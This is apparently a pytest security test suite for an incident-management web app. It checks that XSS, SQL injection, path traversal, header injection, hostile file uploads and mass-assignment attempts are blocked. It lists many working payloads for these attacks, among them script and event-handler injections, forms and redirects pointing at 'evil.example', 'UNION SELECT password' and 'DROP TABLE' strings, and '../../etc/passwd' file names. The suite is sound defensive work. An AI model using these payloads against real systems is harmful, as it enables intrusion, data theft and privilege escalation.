"""One test for each class of hole that products of this kind had (security.md): each fails when its gate is removed."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from quell.kernel.items.models import Item
from quell.kernel.people.models import Person, RoleGrant, Team
from quell.kernel.records.models import Attachment, Record
from quell.practices.incidents import facade
from quell.practices.incidents.models import Category

from .addresses import fillings, pages, send
from .world import World

pytestmark = pytest.mark.django_db

SCRIPTS = (
    "<script>quokkaxss()</script>",
    "<img src=x onerror=quokkaxss()>",
    '"><svg onload=quokkaxss()>',
    "'><b onmouseover=quokkaxss()>",
    "</textarea><script>quokkaxss()</script>",
    "</title><script>quokkaxss()</script>",
    "<iframe srcdoc='<script>quokkaxss()</script>'>",
    "[x](javascript:quokkaxss())",
    "![x](javascript:quokkaxss())",
    "<javascript:quokkaxss()>",
    "[x](data:text/html,<script>quokkaxss()</script>)",
    "[a](https://x.example \"onmouseover='quokkaxss()'\")",
    "{{ 7|add:7 }}{% debug %}",
    "<a href='java\tscript:quokkaxss()'>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=quokkaxss()>",
    "<form action=//evil.example><input name=password>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "&lt;script&gt;quokkaxss()&lt;/script&gt;",
    "<style>@import '//evil.example'</style>",
    "${7*7}#{7*7}<%= 7*7 %>",
)


class _Dangers(HTMLParser):
    """What a browser would run, or be led away by, that no template of ours contains."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in ("iframe", "object", "embed", "base", "math", "style") or (tag == "meta" and "http-equiv" in given):
            self.found.append(tag)
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.found.append(f"script {given}")
        for name, value in given.items():
            address = re.sub(r"[\x00-\x20]", "", value).lower()
            if re.fullmatch(r"on[a-z]+", name) or (
                name in ("href", "src", "action") and address.startswith(("javascript:", "data:text", "vbscript:"))
            ):
                self.found.append(f"{tag} {name}={value}")
            if name in ("action", "src", "srcdoc") and "evil.example" in value:
                self.found.append(f"{tag} {name}={value}")


def dangers(page: str) -> list[str]:
    """Live markup in a page."""
    reader = _Dangers()
    reader.feed(page)
    return reader.found


@pytest.fixture
def poisoned(world: World) -> str:
    """An incident whose every text is an attack, in places whose every name is one."""
    every = "\n\n".join(SCRIPTS)
    name = SCRIPTS[1] + SCRIPTS[2]
    Team.objects.filter(code="applications").update(name=name)
    Item.objects.filter(code="quaggaservice").update(name=name, description=every)
    Category.objects.filter(path="quaggacategory").update(name=name[:120])
    Person.objects.filter(pk__in=[world.cast.claire.pk, world.cast.raj.pk]).update(
        name=name, job_title=name, phone=name[:40]
    )
    world.cast.gungun.name = name
    world.cast.gungun.save(update_fields=["name"])
    raj, claire, number = world.cast.actor("raj"), world.cast.actor("claire"), world.number
    facade.act(raj, "resume", number)
    facade.act(raj, "edit", number, {"title": SCRIPTS[0] + name, "description": every})
    for visibility in ("public", "internal"):
        facade.act(raj, "comment", number, {"body": every, "visibility": visibility})
    root = world.cast.actor("root")
    for team in ("network", "applications"):
        facade.act(root, "transfer", number, {"team": team, "reason": every[:2000]})
    facade.act(root, "assign", number, {"assignee": world.cast.raj.email})
    Attachment.objects.filter(record__number=number).update(name=name + ".png")
    facade.act(raj, "resolve", number, {"resolution_code": "fixed", "resolution": every})
    facade.act(claire, "comment", number, {"body": every, "visibility": "public"})
    return number


@pytest.mark.parametrize("name", ["root", "raj", "claire"])
def test_nothing_typed_ever_runs(world: World, poisoned: str, name: str) -> None:
    """XSS (178 known holes): every page that may show it, generated from the resolver, whole and as a fragment."""
    shown = 0
    for route in pages():
        for values, _twin in fillings(world, route, share=(0, 4)):
            path = route.fill(values)
            queries = ({}, {"q": SCRIPTS[0], "title": SCRIPTS[2], "next": SCRIPTS[7]})
            for query in queries if not route.names else queries[:1]:
                answer = send(world[name].browser, "GET", path, query=query, partial=bool(query))
                if answer.streaming or not answer.headers.get("Content-Type", "").startswith("text/html"):
                    continue
                page = answer.content.decode()
                shown += "quokkaxss" in page
                assert dangers(page) == [], path
                assert "<script>quokkaxss" not in page and page.strip() != "14", path
    assert shown > 3, "the attack reached no page at all"


def test_the_api_gives_text_as_text(world: World, poisoned: str) -> None:
    """JSON is never sniffed into a page."""
    someone = world["raj"]
    for path in ("", "/timeline", "/attachments", "/links"):
        answer = someone.browser.get(f"/api/v1/incidents/{poisoned}{path}", headers=someone.bearer)
        assert (
            answer.headers["Content-Type"] == "application/json"
            and answer.headers["X-Content-Type-Options"] == "nosniff"
        )


SQL = (
    "'",
    "''",
    "';SELECT pg_sleep(5)--",
    "1;DROP TABLE records_record",
    "priority,(SELECT 1)",
    "-priority--",
    "id desc nulls last",
    "1 OR 1=1",
    "%",
    "_",
    "\\",
    "%(v_person)s",
    "%s",
    "{0}",
    "$1",
    "\u2019",
    "1e999",
    "NaN",
    "-1",
    "0",
    "99999999999999999999",
    "2 UNION SELECT password FROM people_person",
    "*:*",
    "& | !",
    "<->",
    "a:*b",
    "((((",
    "\x00",
    "\ud7ff",
)


@pytest.mark.parametrize("parameter", [*facade.PARAMETERS])
def test_no_filter_is_a_statement(world: World, parameter: str) -> None:
    """SQL injection through sort, limit and filters (GLPI CVE-2018-13049, Mantis GHSA-mw6p): refused or harmless."""
    someone = world["stella"]
    sane = someone.browser.get("/api/v1/incidents", headers=someone.bearer).json()["items"]
    for text in SQL:
        answer = send(someone.browser, "GET", "/api/v1/incidents", bearer=someone.bearer, query={parameter: text})
        assert answer.status_code in (200, 422), (parameter, text, answer.status_code)
        if answer.status_code == 200:
            assert {one["number"] for one in answer.json()["items"]} <= {one["number"] for one in sane}
    page = send(someone.browser, "GET", "/incidents/", query={parameter: SQL[2]})
    assert page.status_code in (200, 302, 422) and world.number not in page.content.decode()


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/people",
        "/api/v1/teams",
        "/api/v1/services",
        "/api/v1/categories",
        "/api/v1/organisations",
        "/api/v1/search",
    ],
)
def test_no_other_list_is_one_either(world: World, path: str) -> None:
    someone = world["alva"]
    for name in ("q", "organisation", "cursor", "limit", "kind"):
        for text in SQL:
            answer = send(someone.browser, "GET", path, bearer=someone.bearer, query={name: text})
            assert answer.status_code in (200, 422), (path, name, text)
            assert b"quagga" not in answer.content and b"quokka" not in answer.content


NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\x.txt",
    ".htaccess",
    "a\x00.png",
    "con",
    "x" * 400 + ".png",
    "\u202egnp.exe",
    "a\r\nSet-Cookie: x=1.txt",
    'a".txt',
    "..",
    ".",
    " ",
    "%2e%2e%2fx",
    "файл.txt",
    "a;filename=b.html",
)


@pytest.mark.parametrize("name", NAMES)
def test_a_file_name_is_only_a_name(world: World, name: str) -> None:
    """Traversal and header injection by name: by API, from the desk and from the portal."""
    raj, claire = world["raj"], world["claire"]

    def file() -> Any:
        made = SimpleUploadedFile("x", b"harmless")
        made._name = name
        return made

    raj.browser.post(f"/api/v1/incidents/{world.number}/attachments", {"file": file()}, headers=raj.bearer)
    raj.browser.post(f"/incidents/{world.number}/say", {"visibility": "internal", "note": "x", "files": file()})
    claire.browser.post(f"/portal/requests/{world.number}/message", {"body": "x", "files": file()})
    for one in Attachment.objects.filter(record__number=world.number).exclude(
        pk__in=[world.ids["public"], world.ids["hidden"]]
    ):
        assert not set(one.name) & set("/\\\x00\r\n\u202e") and one.name.strip(". ") and len(one.name) <= 200, repr(
            one.name
        )
        answer = raj.browser.get(f"/attachments/{one.pk}")
        assert b"".join(answer.streaming_content) == b"harmless"
        assert not answer.cookies and "\n" not in answer.headers["Content-Disposition"]


ACTIVE = {
    "page.html": b"<html><script>alert(1)</script>",
    "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "picture.png": b"<!DOCTYPE html><script>alert(1)</script>",
    "feed.xml": b"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'/>",
    "script.js": b"alert(1)",
    "both.gif": b"GIF89a/*<script>alert(1)</script>*/",
    "paper.pdf": b"%PDF-1.4 /JavaScript",
    "page.mht": b"MIME-Version: 1.0",
}


@pytest.mark.parametrize("name", ACTIVE)
@pytest.mark.parametrize("claimed", ["text/html", "image/svg+xml", "image/png"])
def test_no_file_is_run(world: World, name: str, claimed: str) -> None:
    """HTML, SVG and their disguises come as text or pictures, never in place as what they claim to be."""
    raj = world["raj"]
    sent = {"file": SimpleUploadedFile(name, ACTIVE[name], claimed)}
    made = raj.browser.post(f"/api/v1/incidents/{world.number}/attachments", sent, headers=raj.bearer)
    assert made.status_code == 201
    for path, headers in (
        (f"/attachments/{made.json()['id']}", {}),
        (f"/api/v1/attachments/{made.json()['id']}", raj.bearer),
    ):
        answer = raj.browser.get(path, headers=headers)
        kind, place = answer.headers["Content-Type"], answer.headers["Content-Disposition"]
        assert not re.search("html|svg|xml|javascript", kind), kind
        assert place.startswith("attachment") or kind in ("image/gif", "image/png", "image/jpeg", "image/webp")
        assert (
            answer.headers["X-Content-Type-Options"] == "nosniff"
            and "sandbox" in answer.headers["Content-Security-Policy"]
        )
        b"".join(answer.streaming_content)


EXTRA = {
    "id": 1,
    "number": "INC-000001",
    "state": "closed",
    "is_staff": True,
    "is_superuser": True,
    "is_active": True,
    "organisation_id": 1,
    "requester_id": 1,
    "opened_by": "root@gungun.example",
    "version_": 1,
    "created_at": "2001-01-01T00:00:00Z",
    "record": 1,
    "grants": [],
    "token_scopes": [],
    "password_hash": "x",
    "__class__": "x",
    "path": [1],
    "shipped": True,
}


def test_the_api_takes_no_field_it_does_not_name(world: World) -> None:
    """Mass assignment (Snipe-IT CVE-2026-38533, GLPI CVE-2023-41322): refused by name, before anything is done."""
    from .addresses import api_document, operations
    from .bodies import json_body, properties

    someone = world["root"]
    assert api_document()["paths"]
    for route in operations():
        for method in route.methods:
            content = route.schemas.get(method, {}).get("application/json")
            if content is None:
                continue
            values = next(fillings(world, route))[0]
            extra = next(name for name in EXTRA if name not in properties(content["schema"]))
            for name in (extra, "is_superuser"):
                body = {**json_body(route, method), name: EXTRA[name]}
                answer = send(someone.browser, method, route.fill(values), bearer=someone.bearer, body=body)
                assert answer.status_code in (404, 422), (method, route.template, name, answer.status_code)
                if answer.status_code == 422:
                    assert name in {error["field"] for error in answer.json()["errors"]}, (method, route.template)


def test_forms_take_no_field_they_do_not_show(world: World) -> None:
    """A requester's forms with the desk's fields in them: reported as a requester reports, profile without rights."""
    extra = {name: str(value) for name, value in EXTRA.items()} | {
        "assignee": "claire@gungun.example", "team": "network", "priority": "1", "requester": "raj@gungun.example",
        "organisation": "elsewhere", "role": "administrator", "roles": "administrator", "email": "root@gungun.example",
    }  # fmt: skip
    claire, before = world["claire"], set(Record.objects.values_list("number", flat=True))
    answer = claire.browser.post("/portal/report", {"title": "Mine", "affected": "me", "severity": "annoying", **extra})
    made = Record.objects.exclude(number__in=before)
    if answer.status_code == 302:
        one = made.get()
        assert (one.requester_id, one.team_id, one.assignee_id) == (world.cast.claire.pk, None, None)
        assert one.organisation_id == world.cast.gungun.pk and one.state == "new"
    shown = {"language": "da", "timezone": "auto", "theme": "dark", "name": "Boss", "vip": "on", **extra}
    claire.browser.post("/profile", shown)
    person = Person.objects.get(pk=world.cast.claire.pk)
    assert (person.email, person.name, person.vip) == ("claire@gungun.example", "Claire", False)
    assert not RoleGrant.objects.filter(person=person).exists()


def test_a_tenants_administrator_gives_nothing_wider(world: World) -> None:
    """Field and role escalation (iTop CVE-2025-24021): everywhere, the other organisation, or above oneself."""
    alva = world["alva"]
    for roles in (
        [{"role": "administrator", "everywhere": True}], [{"role": "agent", "organisation": "gungun"}],
        [{"role": "agent", "organisation": "elsewhere", "team": "quaggateam"}],
    ):  # fmt: skip
        for email in ("sam@elsewhere.example", "alva@elsewhere.example"):
            answer = send(alva.browser, "PATCH", f"/api/v1/people/{email}", bearer=alva.bearer, body={"roles": roles})
            assert answer.status_code in (403, 422), (email, roles, answer.status_code)
    assert set(RoleGrant.objects.filter(person=world.alva).values_list("organisation_id", flat=True)) == {
        world.cast.elsewhere.pk
    }


def test_another_records_file_cannot_be_carried_over(world: World) -> None:
    """A comment of one's own that names somebody else's attachment (FreeScout CVE-2026-48812)."""
    for name in ("paul", "jonas", "stella"):
        for file in (world.ids["public"], world.ids["hidden"]):
            body = {"body": "look", "visibility": "public", "attachments": [file]}
            answer = send(
                world[name].browser,
                "POST",
                f"/api/v1/incidents/{world.own[name]}/comment",
                bearer=world[name].bearer,
                body=body,
            )
            assert answer.status_code == 422, name
